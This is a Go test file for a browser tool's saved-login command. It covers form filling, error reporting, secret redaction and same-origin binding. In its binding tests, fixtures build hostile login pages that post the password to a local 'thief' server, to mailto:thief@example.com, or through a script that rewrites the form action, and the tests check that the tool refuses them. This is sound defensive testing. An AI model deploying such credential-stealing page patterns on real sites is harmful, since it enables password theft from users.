package login_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/skua-browser/skua/internal/sessiontest"

	"github.com/stretchr/testify/require"

	"github.com/skua-browser/skua/actions/login"
	"github.com/skua-browser/skua/internal/fault"
	"github.com/skua-browser/skua/session"
)

// keeper makes a caller whose vault has a login for a page of the site.
func loginTo(t *testing.T, s *loginSite, path string, more ...string) *sessiontest.Client {
	t.Helper()
	c := host.NewClient(t)
	c.Env["SKUA_KEYRING"] = "off"
	c.DoWith(loginPassword+"\n",
		append([]string{"auth", "save", "app", "--url", s.URL + path, "--username", loginUser, "--password-stdin"},
			more...)...)
	return c
}

func quietOf(t *testing.T, r session.Reply, secrets ...string) {
	t.Helper()
	said := sessiontest.Everything(r)
	for _, s := range append(secrets, loginPassword, loginSecret) {
		quoted, err := json.Marshal(s)
		require.NoError(t, err)
		require.NotContains(t, said, s)
		require.NotContains(t, said, strings.Trim(string(quoted), `"`))
	}
	require.NotContains(t, said, "hunter2")
}

func TestAuthLogin(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, path string
		more       []string
		log        []string // of the server
		steps      []string
	}{
		{
			name: "both on one page", path: "/plain", log: []string{"password", "home"},
			steps: []string{"username", "password"},
		},
		{name: "sent by Enter", path: "/enter", log: []string{"password", "home"}, steps: []string{"username", "password"}},
		{
			name: "one after the other", path: "/steps", log: []string{"password", "home"},
			steps: []string{"username", "password"},
		},
		{name: "in a frame", path: "/frame", log: []string{"password", "home"}, steps: []string{"username", "password"}},
		{name: "with traps", path: "/trap", log: []string{"password", "home"}, steps: []string{"username", "password"}},
		{name: "without a new page", path: "/spa", log: []string{"password"}, steps: []string{"username", "password"}},
		{
			name: "by selectors", path: "/spa",
			more: []string{"--username-selector", "#u", "--password-selector", "#p", "--submit-selector", "#b"},
			log:  []string{"password"}, steps: []string{"username", "password"},
		},
		{
			name: "a code", path: "/code", more: []string{"--totp", loginSecret}, log: []string{"password", "code", "home"},
			steps: []string{"username", "password", "code"},
		},
		{
			name: "a digit a field", path: "/digits", more: []string{"--totp", "otpauth://totp/x?secret=" + loginSecret},
			log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"},
		},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			s := startLoginSite(t)
			c := loginTo(t, s, test.path, test.more...)
			r := c.Do("auth", "login", "app")
			require.Equal(t, test.log, s.noted())
			data := sessiontest.Decode[login.LoggedIn](t, r.Result.Data)
			require.True(t, data.LoggedIn)
			require.Equal(t, test.steps, data.Steps)
			require.NotEmpty(t, data.Observed)
			require.True(t, strings.HasPrefix(r.Result.Text, "✓ Logged in as 'app'"), r.Result.Text)
			quietOf(t, r, "secret-session")

			again := c.Do("auth", "show", "app")
			require.Contains(t, again.Result.Text, "Last login: ")
			quietOf(t, again)
		})
	}
}

func TestAuthLoginAlready(t *testing.T) {
	t.Parallel()
	s := startLoginSite(t)
	c := loginTo(t, s, "/plain")
	c.Do("auth", "login", "app")
	r := c.Do("auth", "login", "app", "--url", s.URL+"/home")
	require.True(t, sessiontest.Decode[login.LoggedIn](t, r.Result.Data).Already)
	require.Equal(t, []string{"password", "home", "home"}, s.noted())

	c.Do("open", s.URL+"/plain")
	c.Do("auth", "login", "app", "--no-navigate")
	require.Equal(t, []string{"password", "home", "home", "password", "home"}, s.noted())
}

func TestAuthLoginFails(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, path string
		password   string
		more       []string
		code       fault.Code
		stage      string
		says       string
	}{
		{
			name: "the page says so", path: "/plain", password: "wrong-one", code: fault.LoginFailed, stage: "rejected",
			says: "Incorrect e-mail or password.",
		},
		{
			name: "a page without a new one says so", path: "/spa", password: "wrong-one", code: fault.LoginFailed,
			stage: "rejected", says: "Those are not the details",
		},
		{
			name: "the page says nothing", path: "/silent", code: fault.LoginFailed, stage: "unchanged",
			says: "the page shows no message about it",
		},
		{
			name: "the server refuses", path: "/forbidden", code: fault.LoginFailed, stage: "rejected",
			says: "HTTP 403: Forbidden",
		},
		{
			name: "the page shows the password", path: "/echo", code: fault.LoginFailed, stage: "rejected",
			says: "Invalid password: •••",
		},
		{name: "a code is asked for", path: "/code", code: fault.LoginFailed, stage: "code", says: "one-time code"},
		{
			name: "a second factor elsewhere", path: "/approve", code: fault.LoginFailed, stage: "code",
			says: "Check your phone",
		},
		{name: "a new password", path: "/renew", code: fault.LoginFailed, stage: "new-password", says: "new password"},
		{
			name: "no form", path: "/none", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "form",
			says: "Timed out waiting for username field",
		},
		{
			name: "a captcha", path: "/captcha", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "captcha",
			says: "hCaptcha",
		},
		{name: "something in front", path: "/banner", code: fault.TargetCovered, says: "covered by"},
		{
			name: "a bad selector", path: "/plain", more: []string{"--password-selector", "#["}, code: fault.SelectorInvalid,
			says: "'#['",
		},
		{
			name: "a selector of nothing", path: "/plain", more: []string{"--password-selector", "#none", "--timeout", "8000"},
			code: fault.SelectorNotFound, says: "#none",
		},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			s := startLoginSite(t)
			c := loginTo(t, s, test.path)
			if test.password != "" {
				c.DoWith(test.password, "auth", "save", "app", "--url", s.URL+test.path, "--username", loginUser,
					"--password-stdin")
			}
			r := c.Try(append([]string{"auth", "login", "app"}, test.more...)...)
			require.True(t, fault.Is(r.Err, test.code), "%v", r.Err)
			require.Contains(t, r.Err.Error(), test.says)
			quietOf(t, r, "wrong-one")
			if test.stage != "" {
				require.Contains(t, sessiontest.Everything(r), `"stage":"`+test.stage+`"`)
			}
			require.NotContains(t, s.noted(), "home")
		})
	}
}

// A login is typed into no page of another origin: neither the one that is open, nor one that the login's page leads
// to.
func TestAuthLoginOrigin(t *testing.T) {
	t.Parallel()
	s := startLoginSite(t)
	other := startLoginSite(t)
	leads := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/frames" {
			sessiontest.ShowPage(w, `<title>Frames</title><iframe src="`+other.URL+`/plain" width=500 height=300></iframe>`)
			return
		}
		http.Redirect(w, r, other.URL+"/plain", http.StatusFound)
	}))
	t.Cleanup(leads.Close)

	c := loginTo(t, s, "/plain")
	c.Do("open", other.URL+"/plain")
	r := c.Try("auth", "login", "app", "--no-navigate")
	require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v", r.Err)
	require.Contains(t, r.Err.Error(), other.URL)

	const field = `{"kind":"css","css":"input[type=password]"`
	for path, selector := range map[string]string{"/": field + "}", "/frames": field + `,"framePath":["iframe"]}`} {
		c.DoWith(loginPassword, "auth", "save", "app", "--url", leads.URL+path, "--username", loginUser, "--password-stdin")
		r = c.Try("auth", "login", "app", "--timeout", "8000")
		require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%s: %v", path, r.Err)
		require.Contains(t, r.Err.Error(), other.URL)
		require.Equal(t, "", c.Do("get", "value", selector).Result.Text)
	}
	require.Empty(t, other.noted())

	kept := loginTo(t, s, "/plain", "--allow-origin", other.URL, "--allow-origin", leads.URL)
	kept.Do("auth", "login", "app", "--url", leads.URL+"/")
	require.Equal(t, []string{"password", "home"}, other.noted())
	r = kept.Try("auth", "login", "app", "--url", leads.URL+"/", "--allow-origin", leads.URL) // a call can only narrow
	require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v", r.Err)
	require.Equal(t, []string{"password", "home"}, other.noted())
}

// What a call says widens nothing of what a login was bound to when it was saved: neither the page, nor where its form
// sends, nor what kind of field takes the password.
func TestAuthLoginBinding(t *testing.T) {
	t.Parallel()
	other := startLoginSite(t)
	var mu sync.Mutex
	var sent []string
	take := func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		sent = append(sent, r.FormValue("pass")+r.FormValue("note"))
		sessiontest.ShowPage(w, `<title>Welcome</title><a href=/out>Sign out</a>`)
	}
	thief := httptest.NewServer(http.HandlerFunc(take))
	t.Cleanup(thief.Close)
	const fields = `<input name=email type=email><input name=pass type=password>`
	pages := map[string]string{
		"/action": `<form method=post action="` + thief.URL + `/">` + fields + `<button>Sign in</button></form>`,
		"/formaction": `<form method=post action=/check>` + fields + `<button formaction="` + thief.URL +
			`/">Sign in</button></form>`,
		"/enter": `<form method=post action=/check>` + fields + `<input type=submit style="display:none" formaction="` +
			thief.URL + `/"></form>`,
		"/base": `<base href="` + thief.URL + `/"><form method=post action=in>` + fields +
			`<button>Sign in</button></form>`,
		"/owner": `<form id=f method=post action="` + thief.URL +
			`/"></form><form action=/check><input name=email form=f><input name=pass type=password form=f><button form=f>Sign in</button></form>`,
		"/clobbered": `<form method=post action="` + thief.URL + `/"><input type=hidden name=action value=/check>` + fields +
			`<button>Sign in</button></form>`,
		"/mail":  `<form method=post action="mailto:thief@example.com">` + fields + `<button>Sign in</button></form>`,
		"/text":  `<form method=post action=/check><input name=email type=email><input name=pass type=password><input name=note id=note><button>Sign in</button></form>`,
		"/turns": `<form method=post action=/check><input name=email type=email><input name=pass type=password onfocus="this.type='text'"><button>Sign in</button></form>`,
		"/later": `<form method=post action=/check><input name=email type=email><input name=pass type=password><button>Sign in</button></form>
			<script>document.querySelector('[name=pass]').addEventListener('input', () => { document.forms[0].action = '` +
			thief.URL + `/' })</script>`,
	}
	bound := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if html, ok := pages[r.URL.Path]; ok {
			sessiontest.ShowPage(w, "<title>Sign in</title>"+html)
			return
		}
		take(w, r)
	}))
	t.Cleanup(bound.Close)
	tests := []struct {
		name, path string
		more       []string
		field      string // what must be empty afterwards
		code       fault.Code
	}{
		{name: "another address", path: "/text", more: []string{"--url", other.URL + "/plain"}},
		{
			name: "another origin allowed by the call", path: "/text",
			more: []string{"--url", other.URL + "/plain", "--allow-origin", other.URL},
		},
		{
			name: "a field that shows what it holds", path: "/text", more: []string{"--password-selector", "#note"},
			field: "#note",
		},
		{name: "a form that posts elsewhere", path: "/action", field: "[name=pass]"},
		{name: "a button that posts elsewhere", path: "/formaction", field: "[name=pass]"},
		{name: "Enter that posts elsewhere", path: "/enter", field: "[name=pass]"},
		{name: "a base elsewhere", path: "/base", field: "[name=pass]"},
		{name: "fields of another form", path: "/owner", field: "[name=pass]"},
		{name: "a field in the action's name", path: "/clobbered", field: "[name=pass]"},
		{name: "mail", path: "/mail", field: "[name=pass]"},
		{
			name: "a button that the call names", path: "/formaction", more: []string{"--submit-selector", "button"},
			field: "[name=pass]",
		},
		{name: "a password field that turns into another", path: "/turns", field: "[name=pass]"},
		{name: "an action that changes once the password is there", path: "/later"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			c := host.NewClient(t)
			c.Env["SKUA_KEYRING"] = "off"
			c.DoWith(loginPassword+"\n", "auth", "save", "app", "--url", bound.URL+test.path, "--username", loginUser,
				"--password-stdin")
			r := c.Try(append([]string{"auth", "login", "app", "--timeout", "8000"}, test.more...)...)
			require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v %s", r.Err, sessiontest.Everything(r))
			require.NotContains(t, sessiontest.Everything(r), "Logged in")
			quietOf(t, r)
			if test.field != "" {
				require.Empty(t, c.Page("document.querySelector('"+test.field+"').value"))
			}
			require.Empty(t, other.noted())
			mu.Lock()
			defer mu.Unlock()
			require.Empty(t, sent)
		})
	}
}

func TestAuthVault(t *testing.T) {
	t.Parallel()
	c := host.NewClient(t)
	c.Env["SKUA_KEYRING"] = "off"
	require.Equal(t, "No auth profiles saved", c.Do("auth", "list").Result.Text)
	r := c.Do("auth", "save", "a", "--url", "example.com/login", "--username", "u", "--password", loginPassword)
	require.Contains(t, strings.Join(r.Result.Notes, "\n"), "--password-stdin")
	quietOf(t, r)
	require.Equal(t, "Auth profiles:\n  a u https://example.com/login", c.Do("auth", "list").Result.Text)
	for _, args := range [][]string{
		{"auth", "save", "a", "--url", "example.com", "--username", "u"},
		{"auth", "save", "bad name", "--url", "example.com", "--username", "u", "--password", loginPassword},
		{
			"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--password",
			"hunter2",
		},
		{"auth", "save", "a", "--url", "ftp://x", "--username", "u", "--password", loginPassword},
		{"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--totp", "hunter2!"},
	} {
		r := c.Try(args...)
		require.True(t, fault.Is(r.Err, fault.Usage), "%v: %v", args, r.Err)
		quietOf(t, r)
	}
	c.Do("auth", "delete", "a")
	require.True(t, fault.Is(c.Try("auth", "show", "a").Err, fault.CredentialNotFound))
	_, active := c.Data("session", "list")["sessions"].([]any)
	require.True(t, active)
	require.NotContains(t, c.Do("session", "list").Result.Text, c.Session, "none of it needs a browser")
}
